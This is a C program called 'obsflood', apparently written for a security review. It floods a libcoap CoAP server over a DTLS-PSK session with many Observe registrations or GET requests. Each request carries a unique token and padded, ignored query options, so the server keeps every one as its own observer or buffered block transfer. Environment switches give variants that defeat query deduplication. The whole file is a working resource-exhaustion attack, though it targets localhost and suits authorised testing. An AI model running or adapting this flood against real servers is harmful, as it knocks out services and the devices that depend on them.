/*
 * obsflood: one DTLS-PSK session to gascounty as IDENTITY and COUNT Observe
 * registrations on PATH, each with its own token and a query the server
 * ignores (x<i>=aaa..., PAD bytes of it over Uri-Query options), so that
 * libcoap keeps every one as an observer of its own (review rev92).
 *
 *   obsflood PORT IDENTITY KEY_ASCII PATH COUNT PAD [STAY_S]
 *
 * Prints "sent N answered M" once the registrations are answered, then
 * keeps the session (and so the observers) for STAY_S seconds, answering
 * notifications, and prints "notifications K".
 * NOOBS=1 in the environment sends plain GETs (no Observe): each answer
 * that is larger than a block stays in libcoap (its lg_xmit) until the
 * client fetches the rest or ~93 s pass.  EXTRAQ="id=1&hash=..." adds
 * query options before the ignored one.  EVID="C&H" instead sends only
 * queries GET /cases/evidence takes, varied: id=C with 0 to 18 leading
 * zeros, and hash=H before or after it (38 different queries in turn).
 * NOQ=1 sends no query; ELECTIVE=1 then makes each request new with an
 * elective option of no meaning (number 65000) holding i.  The first line
 * also counts the 2.xx answers.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <coap3/coap.h>

static int answered, success;

static coap_response_t
on_resp(coap_session_t *s, const coap_pdu_t *sent, const coap_pdu_t *r, const coap_mid_t id)
{
	(void)s;
	(void)sent;
	(void)id;
	answered++;
	if (COAP_RESPONSE_CLASS(coap_pdu_get_code(r)) == 2)
		success++;
	return COAP_RESPONSE_OK;
}

int
main(int argc, char **argv)
{
	coap_context_t *ctx;
	coap_session_t *s;
	coap_address_t dst;
	coap_dtls_cpsk_t cpsk;
	char *padding, q[512];
	int port, n, pad, sent = 0, i, k, left, before;

	if (argc < 7) {
		fprintf(stderr, "usage: obsflood PORT IDENTITY KEY PATH COUNT PAD [STAY_S]\n");
		return 2;
	}
	port = atoi(argv[1]);
	n = atoi(argv[5]);
	pad = atoi(argv[6]);
	coap_startup();
	coap_set_log_level(getenv("V") != NULL ? LOG_DEBUG : LOG_EMERG);
	ctx = coap_new_context(NULL);
	coap_address_init(&dst);
	dst.addr.sin.sin_family = AF_INET;
	dst.addr.sin.sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, "127.0.0.1", &dst.addr.sin.sin_addr);
	dst.size = sizeof(dst.addr.sin);
	memset(&cpsk, 0, sizeof(cpsk));
	cpsk.version = COAP_DTLS_CPSK_SETUP_VERSION;
	cpsk.psk_info.identity.s = (const uint8_t *)argv[2];
	cpsk.psk_info.identity.length = strlen(argv[2]);
	cpsk.psk_info.key.s = (const uint8_t *)argv[3];
	cpsk.psk_info.key.length = strlen(argv[3]);
	s = coap_new_client_session_psk2(ctx, NULL, &dst, COAP_PROTO_DTLS, &cpsk);
	coap_register_response_handler(ctx, on_resp);
	for (k = 0; k < 50 && coap_session_get_state(s) != COAP_SESSION_STATE_ESTABLISHED; k++)
		coap_io_process(ctx, 100);
	if (coap_session_get_state(s) != COAP_SESSION_STATE_ESTABLISHED) {
		printf("no session\n");
		return 1;
	}
	padding = malloc((size_t)pad + 1);
	memset(padding, 'a', (size_t)pad);
	padding[pad] = '\0';
	for (i = 0; i < n; i++) {
		coap_pdu_t *p = coap_pdu_init(COAP_MESSAGE_CON, COAP_REQUEST_CODE_GET,
		    coap_new_message_id(s), coap_session_max_pdu_size(s));
		uint8_t tok[8], buf[4];

		memcpy(tok, &i, sizeof(i));
		memset(tok + 4, 0x5a, 4);
		coap_add_token(p, 8, tok);
		if (getenv("NOOBS") == NULL)
			coap_add_option(p, COAP_OPTION_OBSERVE,
			    coap_encode_var_safe(buf, sizeof(buf), 0), buf);
		{ /* one Uri-Path option a segment */
			char segs[256], *save = NULL, *o;

			snprintf(segs, sizeof(segs), "%s", argv[4]);
			for (o = strtok_r(segs, "/", &save); o != NULL;
			     o = strtok_r(NULL, "/", &save))
				coap_add_option(p, COAP_OPTION_URI_PATH, strlen(o),
				    (const uint8_t *)o);
		}
		if (getenv("EXTRAQ") != NULL) { /* more query options, '&' between them */
			char extra[512], *save = NULL, *o;

			snprintf(extra, sizeof(extra), "%s", getenv("EXTRAQ"));
			for (o = strtok_r(extra, "&", &save); o != NULL;
			     o = strtok_r(NULL, "&", &save))
				coap_add_option(p, COAP_OPTION_URI_QUERY, strlen(o),
				    (const uint8_t *)o);
		}
		if (getenv("NOQ") != NULL) {
			if (getenv("ELECTIVE") != NULL)
				coap_add_option(p, 65000,
				    coap_encode_var_safe(buf, sizeof(buf), (unsigned)i), buf);
			if (coap_send(s, p) != COAP_INVALID_MID)
				sent++;
			while (answered < sent - 8)
				if (coap_io_process(ctx, 1000) < 0)
					break;
			continue;
		}
		if (getenv("EVID") != NULL) { /* id=00C&hash=H: taken, varied */
			char ev[256], idq[300], hq[300], *amp;
			int z = i % 19, swap = (i / 19) % 2;

			snprintf(ev, sizeof(ev), "%s", getenv("EVID"));
			if ((amp = strchr(ev, '&')) == NULL)
				return 2;
			*amp = '\0';
			snprintf(idq, sizeof(idq), "id=%.*s%s", z, "000000000000000000", ev);
			snprintf(hq, sizeof(hq), "hash=%s", amp + 1);
			coap_add_option(p, COAP_OPTION_URI_QUERY, strlen(swap ? hq : idq),
			    (const uint8_t *)(swap ? hq : idq));
			coap_add_option(p, COAP_OPTION_URI_QUERY, strlen(swap ? idq : hq),
			    (const uint8_t *)(swap ? idq : hq));
			if (coap_send(s, p) != COAP_INVALID_MID)
				sent++;
			while (answered < sent - 8)
				if (coap_io_process(ctx, 1000) < 0)
					break;
			continue;
		}
		if (getenv("SINCEQ") != NULL) /* a query the resource takes, varied */
			snprintf(q, sizeof(q), "since=%d", i);
		else
			snprintf(q, sizeof(q), "x%d=%.200s", getenv("SAMEQ") != NULL ? 0 : i,
			    padding);
		coap_add_option(p, COAP_OPTION_URI_QUERY, strlen(q), (const uint8_t *)q);
		for (left = pad - 200; left > 0; left -= 240) {
			snprintf(q, sizeof(q), "y=%.*s", left > 240 ? 240 : left, padding);
			coap_add_option(p, COAP_OPTION_URI_QUERY, strlen(q), (const uint8_t *)q);
		}
		if (coap_send(s, p) != COAP_INVALID_MID)
			sent++;
		while (answered < sent - 8)
			if (coap_io_process(ctx, 1000) < 0)
				break;
	}
	for (k = 0; k < 100 && answered < sent; k++)
		coap_io_process(ctx, 100);
	printf("sent %d answered %d 2.xx %d\n", sent, answered, success);
	fflush(stdout);
	before = answered;
	if (argc > 7)
		for (k = 0; k < atoi(argv[7]) * 10; k++)
			coap_io_process(ctx, 100);
	printf("notifications %d\n", answered - before);
	coap_session_release(s);
	coap_free_context(ctx);
	coap_cleanup();
	free(padding);
	return 0;
}
